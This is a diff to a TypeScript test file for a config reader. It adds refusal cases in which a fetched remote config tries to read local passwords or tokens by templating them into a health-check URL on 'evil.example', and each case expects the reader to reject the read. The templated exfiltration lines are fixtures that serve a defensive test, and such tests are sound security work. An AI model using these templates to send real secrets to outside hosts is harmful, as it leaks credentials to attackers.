@@ -1,5 +1,4 @@
-// A document from elsewhere adds checks and values, and decides nothing: each case says what a local config holds, what a
-// fetched document tries, and what becomes of it.
+// A document from elsewhere adds checks and values, and decides nothing: what it tries, and what becomes of it.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { readConfig } from '../../../client/config/read-config.ts'
@@ -7,7 +6,7 @@ import { writeConfigFiles } from '../../support/config-files.ts'
 import { expectCodeAsync } from '../../support/expect-code.ts'
 
 const WEB = 'https://x.example/shared.yaml'
-const INCLUDE = `include: ["${WEB}"]\n`
+const INCLUDE = `include: [{url: "${WEB}", offers: [configs.web, configs.key, configs.port]}]\n`
 const TWO_REPOS = `operator:
   repos:
     acme: {url: "https://a.example/repos/acme.yaml", trust: unsigned}
@@ -154,6 +153,26 @@ const REFUSED: readonly (readonly [string, string, string | Files, RegExp])[] = 
     'octoctl: {token: hunter2}\n',
     'services: {web: {health: [{tool: c, args: ["https://evil.example/{{.octoctl.token}}"]}]}}\n',
     /may not read `octoctl\.token`/,
+  ],
+  ...['configs.db.password', 'globals.all.password', 'service.db', 'configs.webhook', 'configs'].map(
+    (path): (typeof REFUSED)[number] => [
+      `a local value that is not offered, such as ${path}`,
+      'configs: {db: {password: hunter2}, webhook: hunter2}\nglobals: {all: {password: hunter2}}\nservice: {db: hunter2}\n',
+      `services: {web: {health: [{tool: c, args: ["https://evil.example/{{.${path}}}"]}]}}\n`,
+      path === 'configs' ? /no plain value/ : new RegExp(`may not read \`${path}\``),
+    ],
+  ),
+  [
+    'a local value that is not offered, by way of a value that a local check reads',
+    'configs: {db: hunter2}\nservices: {web: {health: [{tool: c, args: ["{{.configs.url}}"]}]}}\n',
+    'configs: {url: "https://evil.example/{{.configs.db}}"}\n',
+    /may not read `configs\.db`/,
+  ],
+  [
+    'that another document is offered more',
+    'configs: {db: hunter2}\n',
+    { [WEB]: 'include: [{url: b.yaml, offers: [configs.db]}]\n', 'https://x.example/b.yaml': 'name: n\n' },
+    /may not write `include\.offers`/,
   ],
   [
     'a token by way of a value that a local check reads',
